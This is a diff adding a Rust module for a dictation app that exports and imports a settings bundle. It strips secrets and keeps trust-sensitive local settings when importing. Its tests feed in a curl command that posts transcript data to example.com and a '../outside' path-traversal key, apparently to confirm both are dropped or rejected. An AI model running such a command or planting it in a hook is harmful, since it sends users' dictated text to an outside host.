@@ -0,0 +1,255 @@
+//! Portable bundle of settings and modes
+//!
+//! One JSON file carries the settings (providers, paste rules, dictionary,
+//! hooks and the rest) and every mode, so a setup can be copied to another
+//! machine. API keys live in the keyring and are never part of it; tokens
+//! kept in the settings are left out too, and an import keeps this machine's.
+//!
+//! A bundle can come from anyone, so an import also keeps this machine's
+//! trust-sensitive settings (shell commands, where transcripts are sent, open
+//! ports, input injection, encryption) and its hardware and paths (devices,
+//! gains, folders, lockdown). Those are only changed here, by hand.
+
+use crate::error::{AppError, Result};
+use crate::modes::Mode;
+use crate::remote::RemoteTarget;
+use crate::state::Settings;
+use serde::{Deserialize, Serialize};
+use std::collections::HashMap;
+use std::path::Path;
+
+/// Identifies bundle files
+const FILE_FORMAT: &str = "whispertray-settings";
+
+/// Current bundle file version
+const FILE_VERSION: u32 = 1;
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ConfigBundle {
+    format: String,
+    version: u32,
+    /// App version that wrote the bundle
+    pub app_version: String,
+    pub settings: Settings,
+    /// Built-in and custom modes, by key
+    pub modes: Vec<Mode>,
+}
+
+/// What an import changed
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct BundleImport {
+    /// Keys of the modes written
+    pub modes: Vec<String>,
+    /// Version of the app that exported the bundle
+    pub app_version: String,
+}
+
+/// Blank the secrets kept in settings
+fn strip_secrets(settings: &mut Settings) {
+    settings.bridge_token = None;
+    settings.api_token = None;
+    if let Some(RemoteTarget::Paired { token, .. }) = settings.remote_output.as_mut() {
+        token.clear();
+    }
+}
+
+/// Put this machine's secrets back into imported settings
+///
+/// A paired target keeps its token only if it still points at the same instance.
+pub fn keep_secrets(imported: &mut Settings, current: &Settings) {
+    imported.bridge_token = current.bridge_token.clone();
+    imported.api_token = current.api_token.clone();
+    if let Some(RemoteTarget::Paired { url, token }) = imported.remote_output.as_mut() {
+        if let Some(RemoteTarget::Paired {
+            url: current_url,
+            token: current_token,
+        }) = &current.remote_output
+        {
+            if current_url == url {
+                *token = current_token.clone();
+            }
+        }
+    }
+}
+
+/// Put this machine's trust-sensitive and machine-specific settings back into imported settings
+pub fn keep_local(imported: &mut Settings, current: &Settings) {
+    // Run commands, send transcripts elsewhere or open ports
+    imported.allow_shell_hooks = current.allow_shell_hooks;
+    imported.hooks = current.hooks.clone();
+    imported.punctuation_command = current.punctuation_command.clone();
+    imported.event_sink = current.event_sink.clone();
+    imported.remote_output = current.remote_output.clone();
+    imported.bridge_port = current.bridge_port;
+    imported.bridge_lan = current.bridge_lan;
+    imported.api_port = current.api_port;
+    imported.health_port = current.health_port;
+    imported.allow_evdev_input = current.allow_evdev_input;
+    imported.allow_screenshots = current.allow_screenshots;
+    imported.manage_ydotoold = current.manage_ydotoold;
+    imported.encrypt_history = current.encrypt_history;
+    imported.read_only = current.read_only;
+
+    // Hardware and paths of this machine
+    imported.input_device = current.input_device.clone();
+    imported.monitor_device = current.monitor_device.clone();
+    imported.input_gain_db = current.input_gain_db.clone();
+    imported.input_channels = current.input_channels.clone();
+    imported.vad_threshold = current.vad_threshold;
+    imported.audio_backend = current.audio_backend;
+    imported.audio_host = current.audio_host;
+    imported.watch_folder = current.watch_folder.clone();
+    imported.journal_dir = current.journal_dir.clone();
+}
+
+/// Check imported modes can be saved, keeping this machine's output commands
+///
+/// A mode's output command runs in a shell, so an imported one is never
+/// taken: a mode that already exists here keeps its own, a new one gets none.
+pub fn prepare_modes(modes: &mut [Mode], current: &HashMap<String, Mode>) -> Result<()> {
+    let mut problems = Vec::new();
+    for mode in modes.iter_mut() {
+        if !crate::modes::is_valid_key(&mode.key) {
+            problems.push(format!("{:?}: invalid key", mode.key));
+            continue;
+        }
+        problems.extend(
+            crate::modes::validate(mode)
+                .into_iter()
+                .map(|issue| format!("{}: {}: {}", mode.key, issue.field, issue.message)),
+        );
+        mode.output_command = current.get(&mode.key).and_then(|mode| mode.output_command.clone());
+    }
+    if problems.is_empty() {
+        Ok(())
+    } else {
+        Err(AppError::Config(format!("Invalid modes in settings file: {}", problems.join("; "))))
+    }
+}
+
+/// Bundle settings and modes, without secrets
+pub fn build(settings: &Settings, modes: &HashMap<String, Mode>) -> ConfigBundle {
+    let mut settings = settings.clone();
+    strip_secrets(&mut settings);
+    let mut modes: Vec<_> = modes.values().cloned().collect();
+    modes.sort_by(|a, b| a.key.cmp(&b.key));
+    ConfigBundle {
+        format: FILE_FORMAT.to_string(),
+        version: FILE_VERSION,
+        app_version: env!("CARGO_PKG_VERSION").to_string(),
+        settings,
+        modes,
+    }
+}
+
+/// Write a bundle to a file
+pub fn export(bundle: &ConfigBundle, path: &Path) -> Result<()> {
+    std::fs::write(path, serde_json::to_string_pretty(bundle)?)?;
+    Ok(())
+}
+
+/// Read a bundle file written by `export`
+pub fn read(path: &Path) -> Result<ConfigBundle> {
+    let bundle: ConfigBundle = serde_json::from_str(&std::fs::read_to_string(path)?)
+        .map_err(|e| AppError::Config(format!("Not a settings file: {}", e)))?;
+    if bundle.format != FILE_FORMAT {
+        return Err(AppError::Config(format!(
+            "Not a settings file: {}",
+            bundle.format
+        )));
+    }
+    if bundle.version > FILE_VERSION {
+        return Err(AppError::Config(format!(
+            "Settings file version {} is newer than supported ({})",
+            bundle.version, FILE_VERSION
+        )));
+    }
+    Ok(bundle)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::tempdir;
+
+    #[test]
+    fn test_bundle_round_trip() {
+        let mut settings = Settings {
+            bridge_token: Some("bridge-secret".to_string()),
+            api_token: Some("api-secret".to_string()),
+            remote_output: Some(RemoteTarget::Paired {
+                url: "http://workstation:7710".to_string(),
+                token: "paired-secret".to_string(),
+            }),
+            ..Settings::default()
+        };
+        settings.app_char_limits.insert("slack".to_string(), 4000);
+        let modes: HashMap<_, _> = crate::modes::create_builtin_modes()
+            .into_iter()
+            .map(|mode| (mode.key.clone(), mode))
+            .collect();
+
+        let dir = tempdir().unwrap();
+        let path = dir.path().join("settings.json");
+        export(&build(&settings, &modes), &path).unwrap();
+        let written = std::fs::read_to_string(&path).unwrap();
+        assert!(!written.contains("secret"));
+
+        let mut bundle = read(&path).unwrap();
+        assert_eq!(bundle.modes.len(), modes.len());
+        assert_eq!(bundle.settings.app_char_limits["slack"], 4000);
+
+        // The other machine keeps its own tokens
+        keep_secrets(&mut bundle.settings, &settings);
+        assert_eq!(
+            bundle.settings.bridge_token.as_deref(),
+            Some("bridge-secret")
+        );
+        assert_eq!(bundle.settings.remote_output, settings.remote_output);
+        keep_secrets(&mut bundle.settings, &Settings::default());
+        assert_eq!(bundle.settings.bridge_token, None);
+
+        let mut imported = Settings {
+            allow_shell_hooks: true,
+            event_sink: Some("/tmp/transcripts.fifo".to_string()),
+            input_device: "usb-mic".to_string(),
+            watch_folder: Some("/home/someone/memos".to_string()),
+            ..Settings::default()
+        };
+        keep_local(&mut imported, &settings);
+        assert!(!imported.allow_shell_hooks);
+        assert_eq!(imported.event_sink, None);
+        assert_eq!(imported.input_device, settings.input_device);
+        assert_eq!(imported.watch_folder, None);
+
+        std::fs::write(
+            &path,
+            r#"{"format": "whispertray-dictionary", "version": 1}"#,
+        )
+        .unwrap();
+        assert!(read(&path).is_err());
+    }
+
+    #[test]
+    fn test_prepare_modes() {
+        let builtin = crate::modes::create_builtin_modes();
+        let mut current: HashMap<_, _> = builtin.iter().map(|mode| (mode.key.clone(), mode.clone())).collect();
+        current.get_mut("email").unwrap().output_command = Some("tr a-z A-Z".to_string());
+
+        let mut modes = builtin.clone();
+        for mode in &mut modes {
+            mode.output_command = Some("curl -d @- https://example.com".to_string());
+        }
+        prepare_modes(&mut modes, &current).unwrap();
+        for mode in &modes {
+            let expected = (mode.key == "email").then(|| "tr a-z A-Z".to_string());
+            assert_eq!(mode.output_command, expected);
+        }
+
+        let mut escaping = vec![Mode {
+            key: "../outside".to_string(),
+            ..builtin[0].clone()
+        }];
+        assert!(prepare_modes(&mut escaping, &current).is_err());
+    }
+}